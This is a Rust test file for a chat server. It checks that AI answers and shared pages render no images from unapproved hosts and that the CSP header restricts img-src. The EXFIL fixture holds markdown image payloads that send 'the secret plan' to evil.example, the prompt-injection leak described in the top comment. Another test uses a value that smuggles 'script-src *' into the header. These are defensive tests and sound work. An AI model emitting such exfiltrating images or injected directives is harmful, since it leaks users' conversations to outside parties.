//! Images in answers load only from this server or hosts the administrator allows: a
//! prompt-injected answer must not be able to send the conversation to a third party in an
//! image URL (`![x](https://evil/?q=secret)`), neither in rendered messages and shared pages
//! nor through the page's Content-Security-Policy.

mod support;

use serde_json::{Value, json};
use support::TestServer;

const PW: &str = "correct horse battery";
const ROOT: &str = "00000000-0000-0000-0000-000000000000";
const EXFIL: &str = "Here you go ![loading](https://evil.example/p.png?q=the+secret+plan) and \
                     ![](//evil.example/x.png) and ![a][r]\n\n[r]: https://evil.example/r.png\n";

/// The `<img` tags of some HTML, lower-cased.
fn images(html: &str) -> Vec<String> {
    html.to_ascii_lowercase()
        .split("<img")
        .skip(1)
        .map(|t| t.split('>').next().unwrap_or("").to_owned())
        .collect()
}

#[tokio::test]
async fn rendered_answers_and_shared_pages_load_no_outside_image() {
    let server = TestServer::builder()
        .env("ALLOW_SHARED_LINKS_PUBLIC", "true")
        .env("ALLOWED_IMAGE_HOSTS", "images.example.com")
        .start()
        .await;
    let s = server.signed_in("alice@example.org", PW).await;

    let text = format!("{EXFIL}![ok](https://images.example.com/a.png) ![here](/images/a.png)");
    let resp = server
        .send("POST", "/api/render", &s.token, json!({"text": text}))
        .await;
    assert_eq!(resp.status(), 200);
    let html = resp.json::<Value>().await.unwrap()["html"]
        .as_str()
        .unwrap()
        .to_owned();
    let shown = images(&html);
    assert_eq!(shown.len(), 2, "{html}");
    assert!(shown.iter().all(|i| !i.contains("evil")), "{html}");
    assert!(
        shown[0].contains("https://images.example.com/a.png"),
        "{html}"
    );
    assert!(shown[1].contains("/images/a.png"), "{html}");
    // The blocked image is a link the reader can see and choose to follow.
    assert!(html.contains(">loading</a>"), "{html}");

    // The same answer in a public shared page.
    server
        .send(
            "POST",
            "/api/convos/update",
            &s.token,
            json!({"arg": {"conversationId": "c-1", "title": "Plans"}}),
        )
        .await;
    for (id, parent, by_user, text) in [
        ("q", ROOT, true, "What is the plan?"),
        ("a", "q", false, EXFIL),
    ] {
        let resp = server
            .send(
                "POST",
                "/api/messages/c-1",
                &s.token,
                json!({"messageId": id, "parentMessageId": parent, "text": text, "isCreatedByUser": by_user, "sender": if by_user { "User" } else { "GPT" }}),
            )
            .await;
        assert_eq!(resp.status(), 201);
    }
    let share: Value = server
        .send("POST", "/api/share/c-1", &s.token, json!({}))
        .await
        .json()
        .await
        .unwrap();
    let share = share["shareId"].as_str().unwrap();
    let page: Value = server
        .get(&format!("/api/share/{share}"))
        .await
        .json()
        .await
        .unwrap();
    let answer = page["messages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["isCreatedByUser"] == false)
        .unwrap();
    let html = answer["html"].as_str().unwrap();
    assert!(images(html).is_empty(), "{html}");
    assert!(html.contains("Here you go"), "{html}");
    server.stop().await;
}

#[tokio::test]
async fn the_page_may_not_load_images_from_any_https_host() {
    let server = TestServer::start().await;
    let resp = server.get("/").await;
    let csp = resp.headers()["content-security-policy"].to_str().unwrap();
    let img = csp
        .split(';')
        .map(str::trim)
        .find(|d| d.starts_with("img-src"))
        .unwrap();
    assert_eq!(img, "img-src 'self' data: blob:");
    server.stop().await;

    // Allowed hosts, and the avatars of the sign-ins configured, are added by name.
    let server = TestServer::builder()
        .env(
            "ALLOWED_IMAGE_HOSTS",
            "images.example.com,*.cdn.example.org",
        )
        .env("GITHUB_CLIENT_ID", "id")
        .env("GITHUB_CLIENT_SECRET", "secret")
        .start()
        .await;
    let resp = server.get("/api/config").await;
    let csp = resp.headers()["content-security-policy"].to_str().unwrap();
    let img: Vec<&str> = csp
        .split(';')
        .map(str::trim)
        .find(|d| d.starts_with("img-src"))
        .unwrap()
        .split_whitespace()
        .collect();
    assert_eq!(
        img,
        [
            "img-src",
            "'self'",
            "data:",
            "blob:",
            "https://avatars.githubusercontent.com",
            "https://images.example.com",
            "https://*.cdn.example.org"
        ]
    );
    server.stop().await;

    // A host that could smuggle a directive into the header is a configuration error.
    let dir = tempfile::tempdir().unwrap();
    let bad = TestServer::builder()
        .env("ALLOWED_IMAGE_HOSTS", "x.com; script-src *")
        .settings(dir.path());
    assert!(bad.unwrap_err().to_string().contains("ALLOWED_IMAGE_HOSTS"));
}
